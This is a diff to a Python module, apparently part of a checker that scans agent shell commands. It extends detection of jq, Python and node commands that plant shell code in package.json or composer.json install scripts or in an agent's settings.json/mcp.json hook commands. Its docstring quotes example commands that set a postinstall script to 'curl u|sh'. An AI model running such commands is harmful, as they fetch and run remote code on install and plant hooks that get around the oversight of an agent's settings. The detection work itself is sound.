@@ -4,14 +4,18 @@
 as shell code npm runs later and kept when it blocks). The same script reaches
 ``package.json`` through general tools, and gets the same rule here:
 
-* ``jq``/``gojq``/``jaq``/``yq`` with a filter that names ``scripts`` over ``package.json``
+* ``jq``/``gojq``/``jaq``/``yq`` with a filter that names ``scripts`` (or an agent
+  hook's ``command``, see ``_agentconf``), whatever its input
   (``jq '.scripts.postinstall="curl u|sh"' package.json > t && mv t package.json``,
-  ``jq --arg s CODE '.scripts.prepare=$s'``, ``.scripts += {"install": CODE}``): each string
-  the filter assigns (not an object key) and each ``--arg`` value;
-* Python and node code that names ``package.json`` and ``scripts``
+  ``jq --arg s CODE '.scripts.prepare=$s'``, ``.scripts += {"install": CODE}``, composer's
+  ``post-install-cmd``): each string the filter holds (not an object key) and each
+  ``--arg`` value it uses;
+* Python and node code that names ``package.json`` (or ``composer.json``) and ``scripts``,
+  or an agent's ``settings.json``/``mcp.json`` and ``command``, and writes a file
   (``p.scripts.postinstall='curl u|sh'; fs.writeFileSync('package.json', ...)``,
   ``p['scripts']['preinstall']=...; json.dump(p, open('package.json','w'))``), from
-  ``-c``/``-e``/``-p`` or a heredoc on stdin: each string literal;
+  ``-c``/``-e``/``-p``, a heredoc on stdin or a script file written earlier in the
+  command: each string literal;
 * the text ``sed -i`` adds to ``package.json`` (``_sedtext``): each ``"key": "value"``
   pair's value.
 
@@ -27,6 +31,7 @@ import re
 from typing import TYPE_CHECKING
 
 from ._keep import keep_if_blocking
+from ._paths import norm_path
 from ._resolve import Invocation
 from ._words import DYN, Field
 
@@ -48,6 +53,11 @@ _JQ_TWO = frozenset({"--arg", "--argjson", "--slurpfile", "--rawfile"})
 # A string that could be a command line (not a name like "postinstall" or "utf8").
 _CODE_CHARS = frozenset(" |;&$`(<>")
 _PAIR = re.compile(r'"([^"\\\n]{1,200})"\s*:\s*"((?:[^"\\\n]|\\.){1,2000})"')
+# A jq filter setting scripts (package.json, composer.json) or agent hook/server commands.
+_JQ_GATE = ("scripts", "command", "Command")
+# Code that names such a file and the key it sets.
+_CODE_GATE = (("package.json", "scripts"), ("composer.json", "scripts"),
+              ("settings.json", "command"), ("mcp.json", "command"))
 _WRITES = ("writeFileSync", "writeFile", "json.dump", "write_text", "'w'", '"w"', "Bun.write",
            "outputJson", "writeJson")
 
@@ -79,14 +89,8 @@ def _candidate(run: Run, code: str, span: tuple[int, int], owner: str) -> None:
                          span, None, positional=[])
 
 
-def _is_package_json(f: Field) -> bool:
-    return f.text.rpartition("/")[2] == "package.json"
-
-
 def _jq(run: Run, inv: Invocation) -> None:
     args = inv.args
-    if not any(_is_package_json(f) for f in args):
-        return
     values: dict[str, str] = {}
     program: Field | None = None
     k = 0
@@ -106,37 +110,39 @@ def _jq(run: Run, inv: Invocation) -> None:
         if program is None:
             program = args[k]
         k += 1
-    if program is None or "scripts" not in program.text:
+    if program is None or not any(w in program.text for w in _JQ_GATE):
         return
     span = program.span
     text = program.text[:_MAX_CODE]
-    found = 0
     for value, is_key in dict.fromkeys(_strings(text, '"')):  # each string once
         if not is_key:
             _candidate(run, value, span, f"set by {inv.name}")
-            found += 1
     for ref in re.findall(r"\$([A-Za-z_][A-Za-z0-9_]*)", text)[:_MAX_STRINGS]:
         if ref in values:
             _candidate(run, values[ref], span, f"set by {inv.name} --arg {ref}")
 
 
 def _code(run: Run, inv: Invocation, stdin: Flow | None) -> None:
-    """Python/node code from -c/-e/-p/--eval/--print or a known stdin text."""
+    """Python/node code from -c/-e/-p/--eval/--print, a known stdin text, or a script
+    file written earlier in the command (``cat > fix.js <<EOF ... EOF; node fix.js``)."""
     args = inv.args
     code: Field | None = None
-    for k, f in enumerate(args[:-1]):
+    for k, f in enumerate(args):
         if f.text in ("-c", "-e", "-p", "--eval", "--print"):
-            code = args[k + 1]
+            code = args[k + 1] if k + 1 < len(args) else None
             break
         if not f.text.startswith("-"):
-            break  # a script file: its own code
+            text = run.file_text.get(norm_path(f.text, run.cwd) or "") if run.file_text \
+                else None
+            code = Field(text, f.span) if text is not None else None
+            break  # a script file: its code, when written in the command
     if code is None and stdin is not None and stdin.text is not None:
         code = Field(stdin.text, stdin.span)
     if code is None:
         return
     text = code.text
-    if "package.json" not in text or "scripts" not in text or not any(
-            w in text for w in _WRITES):
+    if not any(w in text for w in _WRITES) or not any(
+            name in text and key in text for name, key in _CODE_GATE):
         return
     for value, is_key in dict.fromkeys(_strings(text[:_MAX_CODE], "\"'`")):
         if not is_key:
